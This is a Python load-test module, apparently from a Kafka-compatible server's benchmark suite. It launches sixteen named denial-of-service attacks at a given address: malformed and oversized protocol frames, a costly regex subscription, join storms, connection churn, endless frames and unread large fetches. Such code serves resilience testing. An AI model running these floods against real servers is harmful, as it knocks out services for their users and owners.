"""Clients without any rights that cost a server as much as they can.

Each kind of attack has connections that repeat a costly request or behaviour until the end. The outcomes are
counted.
"""

import asyncio
import json
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Mapping, Sequence
from contextlib import suppress
from functools import partial
from itertools import count
from struct import pack
from types import MappingProxyType

from kafka.protocol.api_key import ApiKey

from bench.load import frames
from bench.load.flexible import array, compact
from bench.load.frames import SIZE
from bench.load.requests import REBALANCE_TIMEOUT_MS, SESSION_TIMEOUT_MS, TOPIC
from kafka_why.connections.address import Address

ANSWERED, CLOSED, WAITS = "answered", "closed", "waits"
"""The outcomes of a try: an answer, the end of the connection, or neither within PATIENCE_S."""
PATIENCE_S = 3.0
OFFSETS, LOOK_UPS = "offsets of 2,000 groups in a request", "a flood of FindCoordinator"
JOINS = "a join storm"
"""Names of attacks."""
BIG_TOPIC = "bench-hostile"
"""A topic with BIG_MIB of records, in partition 0."""
BIG_MIB = 64
MIB = 1024 * 1024

Attack = Callable[[Address, Callable[[], bool], Counter[str]], Awaitable[None]]
"""Attacks an address on one connection at a time, while the given function returns True. Counts its tries by
outcome in the counter.
"""

_PIECE = bytes(256 * 1024)
_client_numbers = count()


def _flexible_frame(api_key: int, version: int, body: bytes) -> bytes:
    """Return a request of a flexible version, with a new client id."""
    client_id = b"hostile-%d" % next(_client_numbers)
    message = pack(">hhih", api_key, version, 1, len(client_id)) + client_id + b"\0" + body
    return SIZE.pack(len(message)) + message


def _overflowing_tag_frame() -> bytes:
    """Return a Fetch with a tagged field of the number 2^32, which does not fit 32 bits."""
    partition = pack(">iiqiqi", 0, -1, 0, -1, -1, MIB) + b"\1\x80\x80\x80\x80\x10\x10" + bytes(16)
    topics = array(bytes(16) + array(partition) + b"\0")
    return _flexible_frame(ApiKey.Fetch, 17, pack(">iiibii", 100, 1, MIB, 0, 0, -1) + topics)


def _commit_frame(*topics: bytes) -> bytes:
    """Return an OffsetCommit for partition 0 of each of these topics, outside any generation."""
    partitions = array(pack(">iqi", 0, 1, -1) + compact(b"") + b"\0")
    encoded_topics = array(*(compact(topic) + partitions + b"\0" for topic in topics))
    return _flexible_frame(
        ApiKey.OffsetCommit,
        8,
        compact(b"hostile") + pack(">i", -1) + compact(b"") + b"\0" + encoded_topics + b"\0",
    )


def _many_tags_frame() -> bytes:
    """Return a LeaveGroup of 2 MiB with a tagged field in each member."""
    member = compact(b"m") + b"\0" + b"\0" + b"\1\x64\0"
    members = [member] * ((2 * MIB - 1_000) // len(member))
    return _flexible_frame(ApiKey.LeaveGroup, 5, compact(b"hostile") + array(*members) + b"\0")


def _describe_frame(groups: int) -> bytes:
    return _flexible_frame(
        ApiKey.DescribeGroups, 5, array(*(compact(b"h-%d" % n) for n in range(groups))) + b"\0\0"
    )


def _offsets_frame(groups: int) -> bytes:
    """Return an OffsetFetch of all offsets of this many groups."""
    of_all_topics = b"\0\0"
    names = (compact(b"h-%d" % n) + of_all_topics for n in range(groups))
    return _flexible_frame(ApiKey.OffsetFetch, 8, array(*names) + b"\0\0")


def _find_frame() -> bytes:
    """Return a FindCoordinator of another group each time."""
    return _flexible_frame(ApiKey.FindCoordinator, 3, compact(b"hostile-%d" % time.time_ns()) + b"\0\0")


def _join_frame(
    metadata_bytes: int, group_id: str = "", rebalance_timeout_ms: int = REBALANCE_TIMEOUT_MS
) -> bytes:
    """Return the JoinGroup of a new member, with this much metadata. By default its group is new, too."""
    fields = {
        "group_id": group_id or f"hostile-{time.time_ns()}",
        "session_timeout_ms": SESSION_TIMEOUT_MS,
        "rebalance_timeout_ms": rebalance_timeout_ms,
        "member_id": "",
        "protocol_type": "consumer",
        "protocols": [{"name": "range", "metadata": bytes(metadata_bytes)}],
    }
    return frames.encode(frames.OLD_JOIN, 1, fields)


def _pattern_frame() -> bytes:
    """Return the first heartbeat of a member that subscribes to a pattern which is costly to match."""
    pattern = b"(" + b"|".join(b"(a?){20}(b?){20}%d" % n for n in range(50)) + b")+x"
    body = compact(b"hostile-%d" % time.time_ns()) + compact(b"m-%d" % time.time_ns()) + pack(">i", 0)
    body += b"\0" + b"\0" + pack(">i", 300_000) + b"\1" + compact(pattern) + b"\0" + array() + b"\0"
    return _flexible_frame(ApiKey.ConsumerGroupHeartbeat, 1, body)


def _versions_frame() -> bytes:
    message = pack(">hhih", ApiKey.ApiVersions, 0, 1, 7) + b"hostile"
    return SIZE.pack(len(message)) + message


def _fetch_frame() -> bytes:
    """Return a Fetch of all of BIG_TOPIC, by its name."""
    topic = pack(">h", len(BIG_TOPIC)) + BIG_TOPIC.encode()
    partitions = pack(">i", 1) + pack(">iqi", 0, 0, BIG_MIB * MIB)
    body = pack(">iiiib", -1, 500, 1, BIG_MIB * MIB, 0) + pack(">i", 1) + topic + partitions
    message = pack(">hhih", ApiKey.Fetch, 4, 1, 7) + b"hostile" + body
    return SIZE.pack(len(message)) + message


async def _send_repeatedly(
    make_frame: Callable[[], bytes],
    address: Address,
    should_continue: Callable[[], bool],
    tries: Counter[str],
    at_once: int = 1,
) -> None:
    """Send this many frames at once, and the next ones after their answers. Reconnect when the server
    disconnects.
    """
    while should_continue():
        reader, writer = await asyncio.open_connection(address.host, address.port)
        try:
            while should_continue():
                writer.write(b"".join(make_frame() for _ in range(at_once)))
                await writer.drain()
                async with asyncio.timeout(PATIENCE_S):
                    for _ in range(at_once):
                        (size,) = SIZE.unpack(await reader.readexactly(SIZE.size))
                        await reader.readexactly(size)
                tries[ANSWERED] += at_once
        except TimeoutError:
            tries[WAITS] += 1
        except (OSError, asyncio.IncompleteReadError):
            tries[CLOSED] += 1
        finally:
            writer.transport.abort()


async def _reconnect_repeatedly(
    address: Address, should_continue: Callable[[], bool], tries: Counter[str]
) -> None:
    """Open a connection for each ApiVersions request."""
    while should_continue():
        try:
            reader, writer = await asyncio.open_connection(address.host, address.port)
            writer.write(_versions_frame())
            async with asyncio.timeout(PATIENCE_S):
                await reader.readexactly(SIZE.size)
            tries[ANSWERED] += 1
            writer.transport.abort()
        except (OSError, asyncio.IncompleteReadError):
            tries[CLOSED] += 1


async def _join_and_disconnect(
    address: Address, should_continue: Callable[[], bool], tries: Counter[str]
) -> None:
    """Send a JoinGroup of 1 MiB to a new group, and disconnect before the answer."""
    while should_continue():
        with suppress(OSError):
            _, writer = await asyncio.open_connection(address.host, address.port)
            writer.write(_join_frame(MIB))
            await writer.drain()
            tries[WAITS] += 1
            writer.transport.abort()


async def _never_read(address: Address, should_continue: Callable[[], bool], tries: Counter[str]) -> None:
    """Request large responses, and read none of them."""
    while should_continue():
        with suppress(OSError):
            _, writer = await asyncio.open_connection(address.host, address.port)
            for _ in range(8):
                writer.write(_fetch_frame())
            writer.transport.pause_reading()  # type: ignore[attr-defined]
            await writer.drain()
            while should_continue() and not writer.is_closing():
                await asyncio.sleep(0.1)
            tries[CLOSED if writer.is_closing() else WAITS] += 1
            writer.transport.abort()


async def _send_endless_frame(
    address: Address, should_continue: Callable[[], bool], tries: Counter[str]
) -> None:
    """Send a frame of 99 MiB without its last bytes, as fast as the server reads."""
    while should_continue():
        reader, writer = await asyncio.open_connection(address.host, address.port)
        try:
            writer.write(SIZE.pack(99 * MIB))
            for _ in range(98 * MIB // len(_PIECE)):
                writer.write(_PIECE)
                async with asyncio.timeout(PATIENCE_S):
                    await writer.drain()
        except TimeoutError:  # the server reads no more
            tries[WAITS] += 1
        except OSError:
            tries[CLOSED] += 1
        while should_continue() and not (reader.at_eof() or writer.is_closing()):
            await asyncio.sleep(0.1)
        writer.transport.abort()


_NAMES = tuple(b"%0249d" % n for n in range(1_000))
ATTACKS: Mapping[str, tuple[int, Attack]] = MappingProxyType(
    {
        "tags beyond 32 bits": (4, partial(_send_repeatedly, _overflowing_tag_frame)),
        "names of 40,000 characters": (4, partial(_send_repeatedly, partial(_commit_frame, b"n" * 40_000))),
        "frames of 2 MiB with a tag in each entry": (2, partial(_send_repeatedly, _many_tags_frame)),
        "200,000 groups in a request": (2, partial(_send_repeatedly, partial(_describe_frame, 200_000))),
        "10,000 groups in a request": (2, partial(_send_repeatedly, partial(_describe_frame, 10_000))),
        "groups by the thousand": (4, partial(_send_repeatedly, partial(_join_frame, 100))),
        "joins of 1 MiB whose clients are gone": (4, _join_and_disconnect),
        "commits to 1,000 names of the greatest size": (
            2,
            partial(_send_repeatedly, partial(_commit_frame, *_NAMES)),
        ),
        "patterns that are costly": (4, partial(_send_repeatedly, _pattern_frame)),
        "connections that come and go": (4, _reconnect_repeatedly),
        "another client id in each request": (
            4,
            partial(_send_repeatedly, partial(_commit_frame, TOPIC.encode())),
        ),
        OFFSETS: (4, partial(_send_repeatedly, partial(_offsets_frame, 2_000))),
        LOOK_UPS: (4, partial(_send_repeatedly, _find_frame, at_once=100)),
        # No member waits for the ones before it, which never join again.
        JOINS: (20, partial(_send_repeatedly, partial(_join_frame, 100, "hostile-joins", 1))),
        "responses that nobody reads": (20, _never_read),
        "frames without an end": (40, _send_endless_frame),
    }
)
"""By name of the attack: the number of connections, and the function that each of them runs."""


async def attack(names: Sequence[str], address: Address, seconds: float) -> Counter[str]:
    """Run all these attacks at once. Return the number of tries by outcome or exception."""
    end_s = time.monotonic() + seconds
    tries: Counter[str] = Counter()
    tasks = [
        asyncio.ensure_future(run(address, lambda: time.monotonic() < end_s, tries))
        for connections, run in (ATTACKS[name] for name in names)
        for _ in range(connections)
    ]
    done, overdue = await asyncio.wait(tasks, timeout=seconds + 2 * PATIENCE_S)
    for task in overdue:
        task.cancel()
    for task in done:
        if (error := task.exception()) is not None:
            tries[type(error).__name__] += 1
    return tries


def main() -> None:
    """Run ``python -m bench.load.attackers ADDRESS SECONDS NAME...``. Print a line at the start, and the
    tries at the end.
    """
    address, seconds, *names = sys.argv[1:]
    print("begun", flush=True)
    tries = asyncio.run(attack(names, Address.parse(address), float(seconds)))
    print(json.dumps(tries))


if __name__ == "__main__":
    main()
